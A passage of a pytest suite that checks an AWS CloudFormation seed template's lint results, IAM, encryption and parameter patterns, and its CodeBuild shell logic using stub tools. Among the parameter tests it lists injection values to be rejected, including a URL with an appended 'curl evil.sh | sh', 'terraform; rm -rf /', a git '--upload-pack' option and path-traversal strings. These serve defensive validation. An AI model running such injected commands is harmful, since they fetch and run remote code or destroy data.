"""Checks of the CloudFormation seed: cfn-lint, checkov, structure and the buildspec's shell logic."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
CFN_DIR = REPO / "cfn"
SEED = CFN_DIR / "seed.yaml"
BACKEND_TF = REPO / "terraform" / "backend.tf"
#: The lock table is named like the stack's other resources, so that each environment's seed has one.
LOCK_TABLE_NAME = {"Fn::Sub": "${ProjectName}-${Environment}-tfstate-lock"}
#: That name for the sandbox builds' ProjectName and Environment (aws-challenge, dev).
SANDBOX_LOCK_TABLE = "aws-challenge-dev-tfstate-lock"

# Parameters of the challenge's starter seed, which the template must keep.
STARTER_PARAMETERS = (
    "ProjectName",
    "Environment",
    "VpcID",
    "PrivateSubnetIDs",
    "IAMCodeBuildPoliciesARNs",
    "ConfigRepoURL",
    "GitSSHPrivateKey",
    "GitBranch",
    "DeploymentDirPath",
    "TerraformVersion",
)

# Variables that CodeBuild itself sets in every build.
CODEBUILD_VARIABLES = {"AWS_REGION", "CODEBUILD_SRC_DIR", "CODEBUILD_BUILD_SUCCEEDING", "HOME"}


# --------------------------------------------------------------------------------------------
# Loading: a YAML loader that turns the short-form intrinsic functions into their long form.
# --------------------------------------------------------------------------------------------
class _CfnLoader(yaml.SafeLoader):
    """SafeLoader that understands CloudFormation's short-form tags (!Ref, !Sub, !GetAtt, ...)."""


def _construct_intrinsic(loader: yaml.SafeLoader, suffix: str, node: yaml.Node) -> dict[str, Any]:
    value: Any
    if isinstance(node, yaml.ScalarNode):
        value = loader.construct_scalar(node)
        if suffix == "GetAtt":
            value = value.split(".", 1)
    elif isinstance(node, yaml.SequenceNode):
        value = loader.construct_sequence(node, deep=True)
    else:
        value = loader.construct_mapping(node, deep=True)  # type: ignore[arg-type]
    key = suffix if suffix in ("Ref", "Condition") else f"Fn::{suffix}"
    return {key: value}


_CfnLoader.add_multi_constructor("!", _construct_intrinsic)


def load_template(path: Path) -> dict[str, Any]:
    return yaml.load(path.read_text(encoding="utf-8"), Loader=_CfnLoader)


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    return load_template(SEED)


@pytest.fixture(scope="module")
def resources(template: dict[str, Any]) -> dict[str, Any]:
    return template["Resources"]


@pytest.fixture(scope="module")
def project(resources: dict[str, Any]) -> dict[str, Any]:
    return resources["CodeBuildProject"]["Properties"]


@pytest.fixture(scope="module")
def buildspec(project: dict[str, Any]) -> dict[str, Any]:
    return yaml.safe_load(project["Source"]["BuildSpec"])


def _walk(node: Any) -> Iterator[Any]:
    yield node
    if isinstance(node, dict):
        for value in node.values():
            yield from _walk(value)
    elif isinstance(node, list):
        for value in node:
            yield from _walk(value)


def _references(node: Any, name: str) -> bool:
    """True when `node` refers to the parameter or resource `name` (Ref, GetAtt or ${name} in Sub)."""
    for item in _walk(node):
        if not isinstance(item, dict):
            continue
        if item.get("Ref") == name:
            return True
        if "Fn::GetAtt" in item and item["Fn::GetAtt"][0] == name:
            return True
        if "Fn::Sub" in item:
            sub = item["Fn::Sub"]
            text = sub if isinstance(sub, str) else sub[0]
            if re.search(r"\$\{" + re.escape(name) + r"(\.[A-Za-z]+)?\}", text):
                return True
    return False


def _env_vars(project: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The project's environment variables by name (the conditional ones included)."""
    found: dict[str, dict[str, Any]] = {}
    for item in project["Environment"]["EnvironmentVariables"]:
        if "Fn::If" in item:
            item = item["Fn::If"][1]
        found[item["Name"]] = item
    return found


def _phase_script(buildspec: dict[str, Any], phase: str) -> str:
    return "\n".join(buildspec["phases"][phase]["commands"])


# --------------------------------------------------------------------------------------------
# 1. cfn-lint
# --------------------------------------------------------------------------------------------
def test_cfn_lint_reports_nothing() -> None:
    # a pinned dev dependency: missing is a failure, not a skip
    from cfnlint.api import ManualArgs, lint_file

    templates = sorted(CFN_DIR.glob("*.yaml")) + sorted(CFN_DIR.glob("*.yml"))
    assert SEED in templates
    problems = []
    for path in templates:
        # Errors, warnings and the informational rules: the templates are meant to be clean.
        for match in lint_file(path, config=ManualArgs(include_checks=["I"])):
            problems.append(f"{path.name}:{match.linenumber} {match.rule.id} {match.message}")
    print("\n".join(problems))
    errors = [p for p in problems if re.search(r" E\d{4} ", p)]
    assert not errors, "cfn-lint errors:\n" + "\n".join(errors)
    assert not problems, "cfn-lint warnings or notes:\n" + "\n".join(problems)


# --------------------------------------------------------------------------------------------
# 2. checkov
# --------------------------------------------------------------------------------------------
def _checkov_executable() -> list[str] | None:
    """The first working checkov: $CHECKOV, the tool venv inside .venv, or the one on PATH.

    checkov pins old boto3 and packaging and ships its own ``hcl2`` module, which clashes with
    python-hcl2, so it is best kept in a venv of its own (``.venv/tools-checkov``).
    """
    candidates = []
    if os.environ.get("CHECKOV"):
        candidates.append(os.environ["CHECKOV"])
    candidates.append(str(REPO / ".venv" / "tools-checkov" / "bin" / "checkov"))
    candidates.append(str(Path(sys.executable).with_name("checkov")))
    on_path = shutil.which("checkov")
    if on_path:
        candidates.append(on_path)
    broken = []
    for candidate in dict.fromkeys(candidates):
        if not Path(candidate).is_file():
            continue
        probe = subprocess.run(
            [candidate, "--version"], capture_output=True, text=True, check=False
        )
        if probe.returncode == 0:
            return [candidate]
        broken.append(f"{candidate}: {probe.stderr.strip().splitlines()[-1:]}")
    if broken:
        pytest.fail("checkov is installed but does not run:\n" + "\n".join(broken))
    return None


def test_checkov_finds_no_failed_check() -> None:
    checkov = _checkov_executable()
    if checkov is None:
        pytest.skip("checkov is not installed (pip install checkov==3.3.30, in a venv of its own)")
    run = subprocess.run(
        [
            *checkov,
            "-d",
            str(CFN_DIR),
            "--framework",
            "cloudformation",
            "-o",
            "json",
            "--skip-download",
        ],
        capture_output=True,
        text=True,
        check=False,
        cwd=REPO,
    )
    reports = json.loads(run.stdout)
    reports = reports if isinstance(reports, list) else [reports]
    failed = [c for r in reports for c in r["results"]["failed_checks"]]
    skipped = [c for r in reports for c in r["results"]["skipped_checks"]]
    passed = sum(r["summary"]["passed"] for r in reports)
    assert sum(r["summary"]["parsing_errors"] for r in reports) == 0
    assert passed > 0, "checkov checked nothing: " + run.stdout[:500] + run.stderr[-500:]
    assert not failed, "checkov failed checks:\n" + "\n".join(
        f"{c['check_id']} {c['resource']}: {c['check_name']}" for c in failed
    )
    for check in skipped:
        comment = (check.get("check_result") or {}).get("suppress_comment", "")
        assert len(comment) > 30, (
            f"{check['check_id']} on {check['resource']} is skipped without a reason"
        )
    assert len(skipped) <= 3, "more than a few checkov skips"


def test_checkov_skips_live_in_resource_metadata_with_a_reason(resources: dict[str, Any]) -> None:
    for name, resource in resources.items():
        skips = resource.get("Metadata", {}).get("checkov", {}).get("skip", [])
        for skip in skips:
            assert re.fullmatch(r"CKV2?_AWS_\d+", skip["id"]), (name, skip)
            assert len(skip.get("comment", "")) > 30, f"{name}: skip of {skip['id']} needs a reason"


# --------------------------------------------------------------------------------------------
# 3. Structure
# --------------------------------------------------------------------------------------------
def test_format_version(template: dict[str, Any]) -> None:
    assert template["AWSTemplateFormatVersion"] == "2010-09-09"


def test_starter_parameters_exist_with_their_types(template: dict[str, Any]) -> None:
    params = template["Parameters"]
    missing = [p for p in STARTER_PARAMETERS if p not in params]
    assert not missing
    assert params["ProjectName"]["Default"] == "aws-challenge"
    assert params["Environment"]["AllowedValues"] == ["dev", "int", "prod"]
    assert params["VpcID"]["Type"] == "AWS::EC2::VPC::Id"
    assert params["PrivateSubnetIDs"]["Type"] == "List<AWS::EC2::Subnet::Id>"
    assert params["IAMCodeBuildPoliciesARNs"]["Type"] == "CommaDelimitedList"
    assert params["GitSSHPrivateKey"]["NoEcho"] is True
    assert params["GitBranch"]["Default"] == "master"
    assert params["DeploymentDirPath"]["Default"] == "terraform"
    assert params["TerraformAction"]["AllowedValues"] == ["plan", "apply", "destroy"]
    assert params["TerraformAction"]["Default"] == "plan"
    assert re.fullmatch(r"1\.\d+\.\d+", params["TerraformVersion"]["Default"])
    assert 365 in params["LogRetentionDays"]["AllowedValues"]


def test_every_parameter_is_constrained_and_described(template: dict[str, Any]) -> None:
    for name, param in template["Parameters"].items():
        assert param.get("Description"), name
        kind = param["Type"]
        if kind in ("String", "CommaDelimitedList"):
            assert "AllowedPattern" in param or "AllowedValues" in param, name
            assert param.get("ConstraintDescription"), name
        elif kind == "Number":
            assert "AllowedValues" in param or {"MinValue", "MaxValue"} <= param.keys(), name
            assert param.get("ConstraintDescription"), name


@pytest.mark.parametrize(
    ("parameter", "value", "accepted"),
    [
        ("ProjectName", "aws-challenge", True),
        ("ProjectName", "Data_Lake", False),
        ("ProjectName", "a-name-that-is-far-too-long-for-a-bucket", False),
        ("ConfigRepoURL", "git@github.com:example-org/data-lake-config.git", True),
        ("ConfigRepoURL", "ssh://git@gitlab.example.com/platform/data-lake.git", True),
        (
            "ConfigRepoURL",
            "ssh://APKAEIBAERJR2EXAMPLE@git-codecommit.eu-west-1.amazonaws.com/v1/repos/lake",
            True,
        ),
        ("ConfigRepoURL", "https://github.com/example-org/data-lake-config.git", False),
        ("ConfigRepoURL", "git@github.com:org/repo.git; curl evil.sh | sh", False),
        ("GitBranch", "master", True),
        ("GitBranch", "release/2026.1", True),
        ("GitBranch", "--upload-pack=touch", False),
        ("DeploymentDirPath", "terraform", True),
        ("DeploymentDirPath", "infra/base terraform", True),
        ("DeploymentDirPath", "infra/../../etc", False),
        ("DeploymentDirPath", "/etc", False),
        ("DeploymentDirPath", "terraform; rm -rf /", False),
        ("TerraformVersion", "1.11.4", True),
        ("TerraformVersion", "0.12.31", False),
        ("TerraformVersion", "latest", False),
        ("GitHostKeyFingerprint", "", True),
        ("GitHostKeyFingerprint", "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU", True),
        ("GitHostKeyFingerprint", "MD5:16:27:ac:a5:76:28:2d:36", False),
        ("EgressCidr", "0.0.0.0/0", True),
        ("EgressCidr", "10.20.0.0/16", True),
        ("EgressCidr", "10.20.0.0/33", False),
        ("IAMCodeBuildPoliciesARNs", "arn:aws:iam::aws:policy/AdministratorAccess", True),
        (
            "IAMCodeBuildPoliciesARNs",
            "arn:aws:iam::123456789012:policy/data-lake/terraform-deployer",
            True,
        ),
        ("IAMCodeBuildPoliciesARNs", "AdministratorAccess", False),
        ("IAMCodeBuildPoliciesARNs", "arn:aws:iam::123456789012:role/deployer", False),
    ],
)
def test_parameter_patterns(
    template: dict[str, Any], parameter: str, value: str, accepted: bool
) -> None:
    """AllowedPattern must match the whole value (for a CommaDelimitedList: each element)."""
    pattern = re.compile(template["Parameters"][parameter]["AllowedPattern"])
    assert bool(pattern.fullmatch(value)) is accepted


def test_ssh_key_pattern_accepts_an_openssh_key(template: dict[str, Any]) -> None:
    body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" * 4
    key = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}-----END OPENSSH PRIVATE KEY-----\n"
    param = template["Parameters"]["GitSSHPrivateKey"]
    assert re.fullmatch(param["AllowedPattern"], key)
    assert param["MinLength"] <= len(key) <= param["MaxLength"]
    assert not re.fullmatch(param["AllowedPattern"], "ssh-ed25519 AAAAC3Nza... public key")


def test_parameter_groups_list_every_parameter_once(template: dict[str, Any]) -> None:
    groups = template["Metadata"]["AWS::CloudFormation::Interface"]["ParameterGroups"]
    grouped = [p for group in groups for p in group["Parameters"]]
    assert sorted(grouped) == sorted(template["Parameters"])


def test_codebuild_project_and_url_output(
    template: dict[str, Any], resources: dict[str, Any]
) -> None:
    assert resources["CodeBuildProject"]["Type"] == "AWS::CodeBuild::Project"
    url = template["Outputs"]["CodeBuildURL"]["Value"]
    assert _references(url, "CodeBuildProject")
    assert "${AWS::Region}" in url["Fn::Sub"]


def test_outputs_are_exported_under_the_stack_name(template: dict[str, Any]) -> None:
    outputs = template["Outputs"]
    expected = {
        "CodeBuildURL",
        "CodeBuildProjectName",
        "StateBucketName",
        "LockTableName",
        "KmsKeyArn",
        "LogGroupName",
        "SshKeySecretArn",
    }
    assert expected <= outputs.keys()
    for name, output in outputs.items():
        assert output["Export"]["Name"] == {"Fn::Sub": f"${{AWS::StackName}}-{name}"}


def test_lock_table_matches_the_terraform_backend(resources: dict[str, Any], project: dict[str, Any]) -> None:
    """One lock table per seed stack, named from ProjectName and Environment like the state bucket
    (a fixed name would make a second environment's stack fail, and deleting one stack would
    remove the table the others lock with). backend.tf names no table: the build passes this one."""
    table = resources["LockTable"]
    assert table["Type"] == "AWS::DynamoDB::Table"
    props = table["Properties"]
    assert props["TableName"] == LOCK_TABLE_NAME
    assert _references(props["TableName"], "ProjectName") and _references(props["TableName"], "Environment")
    bucket = resources["StateBucket"]["Properties"]["BucketName"]["Fn::Sub"]
    assert bucket.startswith("${ProjectName}-${Environment}-")  # the same scheme as the bucket's
    assert _env_vars(project)["LOCK_TABLE"]["Value"] == {"Ref": "LockTable"}
    assert props["KeySchema"] == [{"AttributeName": "LockID", "KeyType": "HASH"}]
    assert props["AttributeDefinitions"] == [{"AttributeName": "LockID", "AttributeType": "S"}]
    assert props["BillingMode"] == "PAY_PER_REQUEST"
    assert props["PointInTimeRecoverySpecification"]["PointInTimeRecoveryEnabled"] is True
    assert props["SSESpecification"]["SSEType"] == "KMS"
    backend = BACKEND_TF.read_text(encoding="utf-8")
    declared = re.findall(r'^\s*dynamodb_table\s*=', backend, flags=re.MULTILINE)
    assert declared == [], "backend.tf names no lock table: each seed stack's comes with -backend-config"
    assert re.search(r"^\s*encrypt\s*=\s*true", backend, flags=re.MULTILINE)


def test_ssh_key_reaches_the_build_only_through_secrets_manager(
    template: dict[str, Any], resources: dict[str, Any], project: dict[str, Any]
) -> None:
    assert template["Parameters"]["GitSSHPrivateKey"]["NoEcho"] is True
    users = [name for name, res in resources.items() if _references(res, "GitSSHPrivateKey")]
    assert users == ["GitSshKeySecret"]
    secret = resources["GitSshKeySecret"]
    assert secret["Type"] == "AWS::SecretsManager::Secret"
    assert secret["Properties"]["SecretString"] == {"Ref": "GitSSHPrivateKey"}
    assert _references(secret["Properties"]["KmsKeyId"], "KmsKey")
    assert not _references(template["Outputs"], "GitSSHPrivateKey")
    for name, res in resources.items():
        if res["Type"] == "AWS::SSM::Parameter":
            assert not _references(res, "GitSSHPrivateKey"), name
            assert res["Properties"]["Type"] == "String", name
    key_var = _env_vars(project)["GIT_SSH_KEY"]
    assert key_var["Type"] == "SECRETS_MANAGER"
    assert key_var["Value"] == {"Ref": "GitSshKeySecret"}


def test_repository_settings_come_from_parameter_store(
    resources: dict[str, Any], project: dict[str, Any]
) -> None:
    env = _env_vars(project)
    for var in ("REPO_URL", "GIT_BRANCH", "DEPLOYMENT_DIRS", "TF_VERSION"):
        assert env[var]["Type"] == "PARAMETER_STORE", var
        parameter = resources[env[var]["Value"]["Ref"]]
        assert parameter["Type"] == "AWS::SSM::Parameter"
        assert parameter["Properties"]["Name"]["Fn::Sub"].startswith(
            "/${Environment}/${ProjectName}/seed/"
        )
    assert env["TF_ACTION"]["Value"] == {"Ref": "TerraformAction"}


def test_codebuild_project_runs_in_the_private_subnets(
    resources: dict[str, Any], project: dict[str, Any]
) -> None:
    vpc = project["VpcConfig"]
    assert vpc["VpcId"] == {"Ref": "VpcID"}
    assert vpc["Subnets"] == {"Ref": "PrivateSubnetIDs"}
    assert vpc["SecurityGroupIds"] == [{"Ref": "CodeBuildSecurityGroup"}]
    group = resources["CodeBuildSecurityGroup"]["Properties"]
    assert "SecurityGroupIngress" not in group
    assert [rule["FromPort"] for rule in group["SecurityGroupEgress"]] == [443]
    assert not [r for r in resources.values() if r["Type"] == "AWS::EC2::SecurityGroupIngress"]


def test_codebuild_project_settings(project: dict[str, Any]) -> None:
    assert project["Source"]["Type"] == "NO_SOURCE"
    assert project["Artifacts"]["Type"] == "NO_ARTIFACTS"
    environment = project["Environment"]
    assert environment["Type"] == "LINUX_CONTAINER"
    assert environment["PrivilegedMode"] is False
    assert _references(project["EncryptionKey"], "KmsKey")
    assert project["LogsConfig"]["CloudWatchLogs"]["GroupName"] == {"Ref": "BuildLogGroup"}
    assert project["TimeoutInMinutes"] == {"Ref": "BuildTimeoutInMinutes"}
    assert project["ConcurrentBuildLimit"] == 1


def test_service_role_trusts_codebuild_of_this_account_only(resources: dict[str, Any]) -> None:
    role = resources["CodeBuildServiceRole"]["Properties"]
    (statement,) = role["AssumeRolePolicyDocument"]["Statement"]
    assert statement["Principal"] == {"Service": "codebuild.amazonaws.com"}
    assert statement["Condition"]["StringEquals"]["aws:SourceAccount"] == {"Ref": "AWS::AccountId"}
    assert role["ManagedPolicyArns"] == {"Ref": "IAMCodeBuildPoliciesARNs"}
    policy = resources["CodeBuildServicePolicy"]["Properties"]
    assert policy["Roles"] == [{"Ref": "CodeBuildServiceRole"}]
    statements = {s["Sid"]: s for s in policy["PolicyDocument"]["Statement"]}
    for sid, statement in statements.items():
        actions = (
            statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
        )
        assert all(a != "*" and not a.endswith(":*") for a in actions), sid
        if statement["Resource"] == "*":
            assert all(a.startswith("ec2:Describe") for a in actions), sid
    eni = statements["AttachBuildNetworkInterfacesInThePrivateSubnetsOnly"]
    assert eni["Action"] == "ec2:CreateNetworkInterfacePermission"
    assert eni["Condition"]["StringEquals"]["ec2:AuthorizedService"] == "codebuild.amazonaws.com"
    assert _references(eni["Condition"]["ArnLike"]["ec2:Subnet"], "PrivateSubnetIDs")


def test_state_bucket_is_private_versioned_and_kms_encrypted(resources: dict[str, Any]) -> None:
    bucket = resources["StateBucket"]
    assert bucket["DeletionPolicy"] == "Retain"
    props = bucket["Properties"]
    assert props["VersioningConfiguration"]["Status"] == "Enabled"
    (rule,) = props["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert rule["ServerSideEncryptionByDefault"]["SSEAlgorithm"] == "aws:kms"
    assert rule["BucketKeyEnabled"] is True
    assert all(props["PublicAccessBlockConfiguration"].values())
    assert props["OwnershipControls"]["Rules"] == [{"ObjectOwnership": "BucketOwnerEnforced"}]
    assert any("NoncurrentVersionExpiration" in r for r in props["LifecycleConfiguration"]["Rules"])
    policy = resources["StateBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"]
    assert any(
        s["Effect"] == "Deny"
        and s["Condition"].get("Bool", {}).get("aws:SecureTransport") == "false"
        for s in policy
    )
    assert any(
        s["Effect"] == "Deny"
        and s["Condition"].get("StringNotEquals", {}).get("s3:x-amz-server-side-encryption")
        == "aws:kms"
        for s in policy
    )
    assert resources["KmsKey"]["Properties"]["EnableKeyRotation"] is True
    assert resources["KmsKey"]["DeletionPolicy"] == "Retain"


def test_buildspec_structure(buildspec: dict[str, Any]) -> None:
    assert str(buildspec["version"]) == "0.2"
    assert buildspec["env"]["shell"] == "bash"
    install = _phase_script(buildspec, "install")
    assert "SHA256SUMS" in install
    assert "sha256sum -c" in install
    assert "/usr/local/bin" in install
    pre_build = _phase_script(buildspec, "pre_build")
    assert "ssh-keyscan" in pre_build
    assert 'git clone --depth 1 --branch "${GIT_BRANCH}" "${REPO_URL}" repo' in pre_build
    build = _phase_script(buildspec, "build")
    for word in ("init", " plan ", " apply ", " destroy ", 'for dir in "${dirs[@]}"'):
        assert word in build, word
    for phase in ("install", "pre_build", "build"):
        assert _phase_script(buildspec, phase).startswith("set -euo pipefail"), phase
    assert "post_build" in buildspec["phases"]


def test_buildspec_uses_only_variables_it_is_given(
    buildspec: dict[str, Any], project: dict[str, Any]
) -> None:
    script = "\n".join(_phase_script(buildspec, phase) for phase in buildspec["phases"])
    used = set(re.findall(r"\$\{([A-Z][A-Z0-9_]*)", script))
    assigned = set(
        re.findall(r"(?:^|\s)(?:export\s+)?([A-Z][A-Z0-9_]*)=", script, flags=re.MULTILINE)
    )
    given = set(_env_vars(project)) | set(buildspec["env"]["variables"]) | CODEBUILD_VARIABLES
    assert used - given - assigned == set()
    assert "GIT_SSH_KEY" in used and "LOCK_TABLE" in used


@pytest.mark.skipif(shutil.which("shellcheck") is None,
                    reason="shellcheck is not installed (scripts/setup.sh installs it with apt-get)")
@pytest.mark.parametrize("phase", ["install", "pre_build", "build", "post_build"])
def test_buildspec_phases_pass_shellcheck(
    buildspec: dict[str, Any], phase: str, tmp_path: Path
) -> None:
    script = tmp_path / f"{phase}.sh"
    script.write_text(
        "#!/usr/bin/env bash\n" + _phase_script(buildspec, phase) + "\n", encoding="utf-8"
    )
    run = subprocess.run(
        ["shellcheck", "-S", "warning", str(script)], capture_output=True, text=True
    )
    assert run.returncode == 0, run.stdout


# --------------------------------------------------------------------------------------------
# 4. The buildspec's shell logic, with terraform, git and ssh replaced by recording stubs.
# --------------------------------------------------------------------------------------------
_RECORDER = """#!/usr/bin/env bash
# Records one call per line: the program, then its arguments, separated by the unit separator.
{{ printf '%s' "$(basename "$0")"; printf '\\x1f%s' "$@"; printf '\\n'; }} >> "$STUB_LOG"
{body}
"""

_STUBS = {
    "terraform": """
if [ "$2" = init ]; then printf 'TF_VAR_aws_region=%s\\n' "${TF_VAR_aws_region:-}" >> "$STUB_LOG.env"; fi
if [ -n "${STUB_FAIL:-}" ] && [ "$1 $2" = "$STUB_FAIL" ]; then exit 3; fi
exit 0
""",
    "git": """
if [ "$1" = clone ]; then mkdir -p "${@: -1}/terraform" "${@: -1}/infra/base"; fi
if [ "$1" = -C ]; then echo 0123456789abcdef0123456789abcdef01234567; fi
exit 0
""",
    "ssh-keyscan": """
host="${@: -1}"
echo "$host ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
""",
    "ssh-keygen": """
if [ "$1" = -y ]; then echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample"; exit 0; fi
if [ "$1" = -l ]; then echo "256 SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU host (ED25519)"; exit 0; fi
exit 1
""",
}

KMS_KEY_ARN = "arn:aws:kms:eu-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"
FAKE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZSBrZXkgZm9yIHRlc3Rz\n-----END OPENSSH PRIVATE KEY-----"


class Sandbox:
    """A build directory, a HOME and a PATH whose terraform, git and ssh tools only record calls."""

    def __init__(self, root: Path, lock_table: str) -> None:
        self.root = root
        self.src = root / "src"
        self.home = root / "home"
        self.bin = root / "bin"
        self.log = root / "calls.log"
        for directory in (self.src, self.home, self.bin):
            directory.mkdir()
        for name, body in _STUBS.items():
            self.add_stub(name, body)
        self.env = {
            "PATH": f"{self.bin}:/usr/local/bin:/usr/bin:/bin",
            "HOME": str(self.home),
            "STUB_LOG": str(self.log),
            "CODEBUILD_SRC_DIR": str(self.src),
            "AWS_REGION": "eu-central-1",
            "PROJECT": "aws-challenge",
            "ENVIRONMENT": "dev",
            "STATE_BUCKET": "aws-challenge-dev-tfstate-123456789012-eu-central-1",
            "LOCK_TABLE": lock_table,
            "TF_ACTION": "plan",
            "DEPLOYMENT_DIRS": "infra/base terraform",
            "REPO_URL": "git@github.com:example-org/data-lake-config.git",
            "GIT_BRANCH": "main",
            "GIT_SSH_PORT": "22",
            "GIT_SSH_KEY": FAKE_KEY,
            "STATE_KMS_KEY_ARN": KMS_KEY_ARN,
        }

    def add_stub(self, name: str, body: str) -> None:
        stub = self.bin / name
        stub.write_text(_RECORDER.format(body=body), encoding="utf-8")
        stub.chmod(0o755)

    def make_repo(self, *dirs: str) -> None:
        for d in dirs:
            (self.src / "repo" / d).mkdir(parents=True, exist_ok=True)

    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["bash", "-c", script],
            env={**self.env, **env},
            cwd=self.src,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    def calls(self, program: str | None = None) -> list[list[str]]:
        if not self.log.exists():
            return []
        lines = self.log.read_text(encoding="utf-8").splitlines()
        calls = [line.split("\x1f") for line in lines]
        return [c[1:] for c in calls if program is None or c[0] == program]


@pytest.fixture
def sandbox(tmp_path: Path, resources: dict[str, Any], project: dict[str, Any]) -> Sandbox:
    # The lock table the build is given is the one the template creates.
    lock_ref = _env_vars(project)["LOCK_TABLE"]["Value"]["Ref"]
    name = resources[lock_ref]["Properties"]["TableName"]["Fn::Sub"]
    return Sandbox(tmp_path, name.replace("${ProjectName}", "aws-challenge").replace("${Environment}", "dev"))


def _init_args(directory: str) -> list[str]:
    return [
        f"-chdir=repo/{directory}",
        "init",
        "-input=false",
        "-backend-config=bucket=aws-challenge-dev-tfstate-123456789012-eu-central-1",
        f"-backend-config=key=aws-challenge/dev/{directory}.tfstate",
        "-backend-config=region=eu-central-1",
        f"-backend-config=dynamodb_table={SANDBOX_LOCK_TABLE}",
        "-backend-config=encrypt=true",
        f"-backend-config=kms_key_id={KMS_KEY_ARN}",
    ]


def _plan_args(directory: str, var_file: str = "") -> list[str]:
    return [
        f"-chdir=repo/{directory}",
        "plan",
        "-input=false",
        "-var",
        "environment=dev",
        *([f"-var-file={var_file}"] if var_file else []),
        "-out=tfplan",
    ]


def _plan_calls(terraform_var_file: str = "") -> list[list[str]]:
    """The terraform calls of a plan build over infra/base, then terraform."""
    return [
        _init_args("infra/base"),
        _plan_args("infra/base"),
        _init_args("terraform"),
        _plan_args("terraform", var_file=terraform_var_file),
    ]


def test_build_plan_runs_init_and_plan_in_each_directory_in_order(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    sandbox.make_repo("infra/base", "terraform")
    run = sandbox.run(_phase_script(buildspec, "build"), TF_ACTION="plan")
    assert run.returncode == 0, run.stderr
    assert sandbox.calls("terraform") == _plan_calls()
    # The stack goes to the seed's region; Terraform ignores the variable if it has no aws_region.
    env_lines = Path(f"{sandbox.log}.env").read_text(encoding="utf-8").splitlines()
    assert env_lines == ["TF_VAR_aws_region=eu-central-1"] * 2


def test_build_apply_applies_the_saved_plan_in_each_directory_in_order(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    sandbox.make_repo("infra/base", "terraform")
    run = sandbox.run(_phase_script(buildspec, "build"), TF_ACTION="apply")
    assert run.returncode == 0, run.stderr
    assert sandbox.calls("terraform") == [
        _init_args("infra/base"),
        _plan_args("infra/base"),
        ["-chdir=repo/infra/base", "apply", "-input=false", "tfplan"],
        _init_args("terraform"),
        _plan_args("terraform"),
        ["-chdir=repo/terraform", "apply", "-input=false", "tfplan"],
    ]


def test_build_destroy_tears_down_in_reverse_order(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    sandbox.make_repo("infra/base", "terraform")
    run = sandbox.run(_phase_script(buildspec, "build"), TF_ACTION="destroy")
    assert run.returncode == 0, run.stderr
    destroy = ["destroy", "-input=false", "-auto-approve", "-var", "environment=dev"]
    assert sandbox.calls("terraform") == [
        _init_args("terraform"),
        ["-chdir=repo/terraform", *destroy],
        _init_args("infra/base"),
        ["-chdir=repo/infra/base", *destroy],
    ]


def test_build_passes_the_environments_settings_where_a_directory_has_them(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    sandbox.make_repo("infra/base", "terraform/environments")
    for env in ("dev", "prod"):
        (sandbox.src / "repo" / "terraform" / "environments" / f"{env}.tfvars").write_text(
            'vpc_name = "corp-vpc"\n', encoding="utf-8"
        )
    run = sandbox.run(_phase_script(buildspec, "build"), TF_ACTION="plan")
    assert run.returncode == 0, run.stderr
    assert sandbox.calls("terraform") == _plan_calls(terraform_var_file="environments/dev.tfvars")
    assert "settings: terraform/environments/dev.tfvars" in run.stdout

    sandbox.log.unlink()
    run = sandbox.run(_phase_script(buildspec, "build"), TF_ACTION="destroy", ENVIRONMENT="prod")
    assert run.returncode == 0, run.stderr
    destroy = ["destroy", "-input=false", "-auto-approve", "-var", "environment=prod"]
    assert [c for c in sandbox.calls("terraform") if c[1] != "init"] == [
        ["-chdir=repo/terraform", *destroy, "-var-file=environments/prod.tfvars"],
        ["-chdir=repo/infra/base", *destroy],
    ]


def test_the_repositorys_own_settings_are_found_by_the_build(
    sandbox: Sandbox, buildspec: dict[str, Any], template: dict[str, Any]
) -> None:
    """With this repository checked out and the seed's default DeploymentDirPath, every
    environment the seed offers gets its settings file."""
    params = template["Parameters"]
    (directory,) = params["DeploymentDirPath"]["Default"].split()
    shutil.copytree(REPO / directory, sandbox.src / "repo" / directory)
    for env in params["Environment"]["AllowedValues"]:
        sandbox.log.unlink(missing_ok=True)
        run = sandbox.run(_phase_script(buildspec, "build"), ENVIRONMENT=env, DEPLOYMENT_DIRS=directory)
        assert run.returncode == 0, run.stderr
        plan = sandbox.calls("terraform")[1]
        assert plan[-2:] == [f"-var-file=environments/{env}.tfvars", "-out=tfplan"], env


def test_build_stops_at_the_first_failing_terraform_call(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    sandbox.make_repo("infra/base", "terraform")
    run = sandbox.run(
        _phase_script(buildspec, "build"),
        TF_ACTION="apply",
        STUB_FAIL="-chdir=repo/infra/base plan",
    )
    assert run.returncode == 3
    assert sandbox.calls("terraform") == [_init_args("infra/base"), _plan_args("infra/base")]


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"TF_ACTION": "import"}, "TF_ACTION must be plan, apply or destroy"),
        ({"DEPLOYMENT_DIRS": "terraform ../outside"}, "Refusing deployment directory '../outside'"),
        ({"DEPLOYMENT_DIRS": "/etc"}, "Refusing deployment directory '/etc'"),
